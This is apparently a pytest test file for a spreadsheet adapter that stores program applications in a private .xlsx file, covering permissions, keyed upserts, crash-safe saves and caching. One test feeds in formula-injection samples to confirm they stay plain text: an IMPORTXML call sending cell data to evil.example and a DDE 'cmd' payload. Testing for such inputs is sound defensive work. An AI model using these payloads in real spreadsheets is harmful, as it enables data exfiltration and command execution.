"""LocalWorkbook: the program spreadsheet as a private .xlsx file, written by key, RAW."""

from __future__ import annotations

import logging
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest

import microintern.adapters.local.workbook as workbook_module
from microintern.adapters.local.workbook import (
    EXCEL_CELL_LIMIT,
    TRUNCATION_MARKER,
    LocalWorkbook,
)
from microintern.errors import BackendError, RowError
from microintern.ports import Roster, UpsertResult

LAYOUT = {
    "Applications": ["Application ID", "Student", "Score", "Answer"],
    "Partners": ["Partner ID", "Organization"],
}


@pytest.fixture
def book(tmp_path: Path) -> LocalWorkbook:
    workbook = LocalWorkbook(tmp_path / "program.xlsx")
    workbook.ensure_tabs(LAYOUT)
    return workbook


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def header_row(path: Path, tab: str) -> list[object]:
    sheet = openpyxl.load_workbook(path)[tab]
    return [cell.value for cell in sheet[1]]


def test_is_a_roster(book: LocalWorkbook) -> None:
    roster: Roster = book
    assert roster is book


def test_ensure_tabs_creates_bold_frozen_headers(book: LocalWorkbook) -> None:
    loaded = openpyxl.load_workbook(book.path)
    assert loaded.sheetnames == ["Applications", "Partners"]
    sheet = loaded["Applications"]
    assert [cell.value for cell in sheet[1]] == LAYOUT["Applications"]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"


def test_files_are_private(book: LocalWorkbook) -> None:
    assert mode(book.path) == 0o600
    book.upsert("Applications", "Application ID", [{"Application ID": "a1"}])
    assert mode(book.path) == 0o600
    assert [p.name for p in book.path.parent.iterdir()] == ["program.xlsx"]  # no temp left


def test_new_folder_is_private(tmp_path: Path) -> None:
    workbook = LocalWorkbook(tmp_path / "new" / "program.xlsx")
    workbook.ensure_tabs(LAYOUT)
    assert mode(tmp_path / "new") == 0o700
    assert mode(workbook.path) == 0o600


def test_ensure_tabs_appends_missing_headers_without_touching_data(book: LocalWorkbook) -> None:
    book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Score": 7}])
    # The coordinator adds a column of their own and moves nothing.
    loaded = openpyxl.load_workbook(book.path)
    loaded["Applications"]["E1"] = "My notes"
    loaded["Applications"]["E2"] = "call family"
    loaded.save(book.path)

    book.ensure_tabs({"Applications": ["Application ID", "Decision"], "Sessions": ["Session ID"]})
    assert header_row(book.path, "Applications") == [
        "Application ID", "Student", "Score", "Answer", "My notes", "Decision",
    ]
    records = book.read_tabs(["Applications", "Sessions"])
    assert records["Applications"] == [
        {
            "Application ID": "a1", "Student": None, "Score": 7, "Answer": None,
            "My notes": "call family", "Decision": None,
        }
    ]
    assert records["Sessions"] == []


def test_ensure_tabs_twice_does_not_rewrite(book: LocalWorkbook) -> None:
    before = book.path.stat().st_mtime_ns, book.path.stat().st_ino
    book.ensure_tabs(LAYOUT)
    assert (book.path.stat().st_mtime_ns, book.path.stat().st_ino) == before


def test_read_tabs_of_missing_file_or_tab_is_empty(tmp_path: Path, book: LocalWorkbook) -> None:
    assert LocalWorkbook(tmp_path / "none.xlsx").read_tabs(["Applications"]) == {
        "Applications": []
    }
    assert book.read_tabs(["Nope"]) == {"Nope": []}


def test_read_tabs_skips_blank_rows_and_keeps_types(book: LocalWorkbook) -> None:
    loaded = openpyxl.load_workbook(book.path)
    sheet = loaded["Applications"]
    sheet.append(["a1", "Ana", 12, "yes"])
    sheet.append([None, None, None, None])
    sheet.append([None, "", None, None])
    sheet.append(["a2", "Bo", 7.5, True])
    loaded.save(book.path)
    records = book.read_tabs(["Applications"])["Applications"]
    assert records == [
        {"Application ID": "a1", "Student": "Ana", "Score": 12, "Answer": "yes"},
        {"Application ID": "a2", "Student": "Bo", "Score": 7.5, "Answer": True},
    ]
    assert isinstance(records[0]["Score"], int)


def test_upsert_appends_then_updates_in_place(book: LocalWorkbook) -> None:
    result = book.upsert(
        "Applications",
        "Application ID",
        [{"Application ID": "a1", "Score": 10}, {"Application ID": "a2", "Score": 20}],
    )
    assert result == UpsertResult(updated=0, appended=2)
    result = book.upsert(
        "Applications",
        "Application ID",
        [{"Application ID": "a2", "Score": 21}, {"Application ID": "a3", "Score": 30}],
    )
    assert result == UpsertResult(updated=1, appended=1)
    rows = book.read_tabs(["Applications"])["Applications"]
    assert [(r["Application ID"], r["Score"]) for r in rows] == [("a1", 10), ("a2", 21), ("a3", 30)]


def test_upsert_finds_rows_by_key_after_a_manual_sort(book: LocalWorkbook) -> None:
    book.upsert(
        "Applications",
        "Application ID",
        [{"Application ID": f"a{i}", "Student": f"S{i}", "Score": i} for i in range(1, 6)],
    )
    # The coordinator sorts the tab by hand (descending) and types notes in between runs.
    loaded = openpyxl.load_workbook(book.path)
    sheet = loaded["Applications"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    rows.sort(key=lambda row: str(row[0]), reverse=True)
    sheet.delete_rows(2, sheet.max_row)
    for row in rows:
        sheet.append(row)
    sheet["D2"] = "coordinator wrote this"  # row 2 now holds a5
    loaded.save(book.path)

    book.upsert(
        "Applications",
        "Application ID",
        [{"Application ID": f"a{i}", "Score": i * 100} for i in (1, 3, 5)],
    )

    by_key = {r["Application ID"]: r for r in book.read_tabs(["Applications"])["Applications"]}
    assert {key: r["Score"] for key, r in by_key.items()} == {
        "a1": 100, "a2": 2, "a3": 300, "a4": 4, "a5": 500,
    }
    assert {key: r["Student"] for key, r in by_key.items()} == {
        f"a{i}": f"S{i}" for i in range(1, 6)
    }
    assert by_key["a5"]["Answer"] == "coordinator wrote this"
    # And the rows stay in the coordinator's order.
    order = [r["Application ID"] for r in book.read_tabs(["Applications"])["Applications"]]
    assert order == ["a5", "a4", "a3", "a2", "a1"]


def test_upsert_writes_only_named_columns(book: LocalWorkbook) -> None:
    book.upsert(
        "Applications", "Application ID", [{"Application ID": "a1", "Student": "Ana", "Score": 1}]
    )
    loaded = openpyxl.load_workbook(book.path)
    loaded["Applications"]["D2"] = "coordinator note"
    loaded["Applications"]["F2"] = "=SUM(C2:C2)"  # a coordinator formula, outside any header
    loaded.save(book.path)

    book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Score": 2}])
    sheet = openpyxl.load_workbook(book.path)["Applications"]
    assert [sheet[f"{c}2"].value for c in "ABCD"] == ["a1", "Ana", 2, "coordinator note"]
    assert sheet["F2"].value == "=SUM(C2:C2)"
    assert sheet["F2"].data_type == "f"  # the coordinator's own formula is kept as a formula


def test_upsert_adds_missing_header_and_missing_tab(book: LocalWorkbook) -> None:
    book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Flags": "late"}])
    assert header_row(book.path, "Applications")[-1] == "Flags"
    book.upsert("Outbox", "Key", [{"Key": "k1", "Status": "drafted"}])
    assert header_row(book.path, "Outbox") == ["Key", "Status"]
    assert book.read_tabs(["Outbox"])["Outbox"] == [{"Key": "k1", "Status": "drafted"}]


def test_upsert_appends_below_the_last_filled_row(book: LocalWorkbook) -> None:
    loaded = openpyxl.load_workbook(book.path)
    sheet = loaded["Applications"]
    sheet["A2"] = "a1"
    sheet["B5"] = "stray value typed lower down"
    loaded.save(book.path)
    book.upsert("Applications", "Application ID", [{"Application ID": "a2"}])
    sheet = openpyxl.load_workbook(book.path)["Applications"]
    assert sheet["A6"].value == "a2"


def test_numeric_keys_match_text_keys(book: LocalWorkbook) -> None:
    loaded = openpyxl.load_workbook(book.path)
    loaded["Partners"].append([1042, "Acme"])  # typed by hand: Excel stores a number
    loaded.save(book.path)
    result = book.upsert("Partners", "Partner ID", [{"Partner ID": "1042", "Organization": "ACME"}])
    assert result == UpsertResult(updated=1, appended=0)


@pytest.mark.parametrize(
    "text",
    [
        '=IMPORTXML("https://evil.example/?q="&A1, "//a")',
        "=1+1",
        "=HYPERLINK(\"https://evil.example\",\"click\")",
        "+1-2",
        "-5+cmd|' /C calc'!A0",
        "@SUM(1)",
        "#N/A",
        "#DIV/0!",
    ],
)
def test_formula_like_text_stays_text_after_reload(book: LocalWorkbook, text: str) -> None:
    book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Answer": text}])
    sheet = openpyxl.load_workbook(book.path)["Applications"]
    assert sheet["D2"].value == text
    assert sheet["D2"].data_type == "s"
    assert book.read_tabs(["Applications"])["Applications"][0]["Answer"] == text
    # And in data_only mode (what Excel's cached value would be) it is the same text.
    cached = openpyxl.load_workbook(book.path, data_only=True)["Applications"]
    assert cached["D2"].value == text


def test_formula_text_has_quote_prefix(book: LocalWorkbook) -> None:
    book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Answer": "=1+1"}])
    sheet = openpyxl.load_workbook(book.path)["Applications"]
    assert sheet["D2"].quotePrefix
    book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Answer": 5}])
    sheet = openpyxl.load_workbook(book.path)["Applications"]
    assert sheet["D2"].value == 5 and not sheet["D2"].quotePrefix


def test_formula_in_header_and_key_stays_text(book: LocalWorkbook) -> None:
    book.upsert("Applications", "Application ID", [{"Application ID": "=2*3", "=X": "=Y"}])
    sheet = openpyxl.load_workbook(book.path)["Applications"]
    assert sheet["A2"].data_type == "s"
    assert sheet["E1"].value == "=X" and sheet["E1"].data_type == "s"
    assert book.upsert("Applications", "Application ID", [{"Application ID": "=2*3"}]) == (
        UpsertResult(updated=1, appended=0)
    )


def test_illegal_characters_are_stripped_not_fatal(book: LocalWorkbook) -> None:
    nasty = "ok\x00\x01\x07\x0b\x0c\x1b[31m\ufffe\uffff \ud800 end\r\nnext"
    book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Answer": nasty}])
    answer = book.read_tabs(["Applications"])["Applications"][0]["Answer"]
    assert answer == "ok[31m \ufffd end\nnext"


def test_unicode_survives(book: LocalWorkbook) -> None:
    text = "مرحبا — 你好 — Zoë 🎉 — \u202eRTL override"
    book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Student": text}])
    assert book.read_tabs(["Applications"])["Applications"][0]["Student"] == text


def test_long_text_is_truncated_with_marker(
    book: LocalWorkbook, caplog: pytest.LogCaptureFixture
) -> None:
    essay = "x" * 50_000
    with caplog.at_level(logging.WARNING):
        book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Answer": essay}])
    answer = book.read_tabs(["Applications"])["Applications"][0]["Answer"]
    assert isinstance(answer, str)
    assert len(answer) == EXCEL_CELL_LIMIT
    assert answer.endswith(TRUNCATION_MARKER)
    assert "truncated" in caplog.text
    assert "xxxx" not in caplog.text  # the content itself is never logged

    exact = "y" * EXCEL_CELL_LIMIT
    book.upsert("Applications", "Application ID", [{"Application ID": "a2", "Answer": exact}])
    assert book.read_tabs(["Applications"])["Applications"][1]["Answer"] == exact


def test_none_clears_a_cell_and_nan_is_text(book: LocalWorkbook) -> None:
    book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Score": 3}])
    book.upsert(
        "Applications",
        "Application ID",
        [{"Application ID": "a1", "Score": None, "Answer": float("nan")}],
    )
    row = book.read_tabs(["Applications"])["Applications"][0]
    assert row["Score"] is None
    assert row["Answer"] == "nan"


def test_duplicate_keys_in_one_upsert_hit_the_same_row(book: LocalWorkbook) -> None:
    result = book.upsert(
        "Applications",
        "Application ID",
        [{"Application ID": "a1", "Score": 1}, {"Application ID": "a1", "Student": "Ana"}],
    )
    assert result == UpsertResult(updated=1, appended=1)
    assert book.read_tabs(["Applications"])["Applications"] == [
        {"Application ID": "a1", "Student": "Ana", "Score": 1, "Answer": None}
    ]


def test_missing_key_is_a_row_error(book: LocalWorkbook) -> None:
    with pytest.raises(RowError, match="Application ID"):
        book.upsert("Applications", "Application ID", [{"Student": "no key"}])


def test_not_a_workbook_is_a_backend_error(tmp_path: Path) -> None:
    path = tmp_path / "program.xlsx"
    path.write_text("this is not a spreadsheet")
    workbook = LocalWorkbook(path)
    with pytest.raises(BackendError, match=r"program\.xlsx is not a valid \.xlsx workbook"):
        workbook.read_tabs(["Applications"])
    with pytest.raises(BackendError):
        workbook.upsert("Applications", "Application ID", [{"Application ID": "a1"}])
    with pytest.raises(BackendError):
        workbook.ensure_tabs(LAYOUT)
    assert path.read_text() == "this is not a spreadsheet"  # never overwritten


def test_invalid_tab_name_is_a_backend_error(book: LocalWorkbook) -> None:
    with pytest.raises(BackendError, match="cannot create tab"):
        book.upsert("Bad/Name", "Key", [{"Key": "k"}])


def test_failed_save_leaves_previous_file_intact(
    book: LocalWorkbook, monkeypatch: pytest.MonkeyPatch
) -> None:
    book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Score": 1}])
    before = book.path.read_bytes()

    def explode(*_args: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(workbook_module, "_write_xlsx", explode)
    with pytest.raises(OSError, match="disk full"):
        book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Score": 2}])
    assert book.path.read_bytes() == before
    assert [p.name for p in book.path.parent.iterdir()] == ["program.xlsx"]


WRITER = """
import sys
from pathlib import Path
from microintern.adapters.local.workbook import LocalWorkbook

book = LocalWorkbook(Path(sys.argv[1]))
round_ = 0
while True:
    round_ += 1
    rows = [{"Application ID": f"a{i}", "Score": round_, "Answer": "x" * 500} for i in range(300)]
    book.upsert("Applications", "Application ID", rows)
    print(round_, flush=True)
"""


def test_kill_9_mid_write_never_leaves_a_torn_workbook(book: LocalWorkbook) -> None:
    source = Path(__file__).resolve().parents[2] / "src"
    env = {**os.environ, "PYTHONPATH": f"{source}{os.pathsep}{os.environ.get('PYTHONPATH', '')}"}
    for delay in (0.0, 0.03, 0.07, 0.11, 0.17, 0.23):
        writer = subprocess.Popen(
            [sys.executable, "-c", WRITER, str(book.path)],
            env=env,
            stdout=subprocess.PIPE,
            text=True,
        )
        assert writer.stdout is not None
        writer.stdout.readline()  # at least one save completed, the next is in flight
        time.sleep(delay)
        os.kill(writer.pid, signal.SIGKILL)
        writer.wait()
        rows = book.read_tabs(["Applications"])["Applications"]
        assert len(rows) == 300
        assert len({row["Score"] for row in rows}) == 1  # one whole save, never half of one
        assert stat.S_IMODE(book.path.stat().st_mode) == 0o600
    # A kill mid-save may leave its private temp file behind, never a half-written workbook;
    # the next write removes such leftovers once they are clearly stale.
    leftovers = list(book.path.parent.glob(".program.xlsx.*.tmp"))
    for leftover in leftovers:
        assert stat.S_IMODE(leftover.stat().st_mode) == 0o600
        os.utime(leftover, (time.time() - 3600, time.time() - 3600))
    book.upsert("Applications", "Application ID", [{"Application ID": "a1", "Score": "next"}])
    assert list(book.path.parent.glob(".program.xlsx.*.tmp")) == []


def test_a_write_that_changes_nothing_leaves_the_file_alone(book: LocalWorkbook) -> None:
    rows = [{"Application ID": "a1", "Score": 3}, {"Application ID": "a2", "Score": 4}]
    book.upsert("Applications", "Application ID", rows)
    before = book.path.stat().st_mtime_ns
    assert book.upsert("Applications", "Application ID", rows).updated == 2
    assert book.path.stat().st_mtime_ns == before
    book.upsert("Applications", "Application ID", [{"Application ID": "a2", "Score": 5}])
    assert book.path.stat().st_mtime_ns != before
    assert [r["Score"] for r in book.read_tabs(["Applications"])["Applications"]] == [3, 5]


def test_read_cache_follows_writes_by_this_and_other_instances(tmp_path: Path) -> None:
    path = tmp_path / "program.xlsx"
    mine, theirs = LocalWorkbook(path), LocalWorkbook(path)
    mine.ensure_tabs({"A": ("Key", "Value"), "B": ("Key", "Value")})
    mine.upsert("A", "Key", [{"Key": "1", "Value": "a"}])
    mine.upsert("B", "Key", [{"Key": "1", "Value": "b"}])
    assert mine.read_tabs(["A", "B"]) == {"A": [{"Key": "1", "Value": "a"}],
                                          "B": [{"Key": "1", "Value": "b"}]}
    # This instance's own write: the written tab is read afresh, the other from the cache.
    mine.upsert("A", "Key", [{"Key": "1", "Value": "a2"}])
    assert mine.read_tabs(["A", "B"]) == {"A": [{"Key": "1", "Value": "a2"}],
                                          "B": [{"Key": "1", "Value": "b"}]}
    # Another process (or the coordinator) replaced the file: everything is read again.
    theirs.upsert("B", "Key", [{"Key": "1", "Value": "b2"}])
    assert mine.read_tabs(["B"]) == {"B": [{"Key": "1", "Value": "b2"}]}
    # Rows handed out are copies: changing them changes nothing cached.
    rows = mine.read_tabs(["A"])["A"]
    rows[0]["Value"] = "changed by the caller"
    assert mine.read_tabs(["A"])["A"] == [{"Key": "1", "Value": "a2"}]
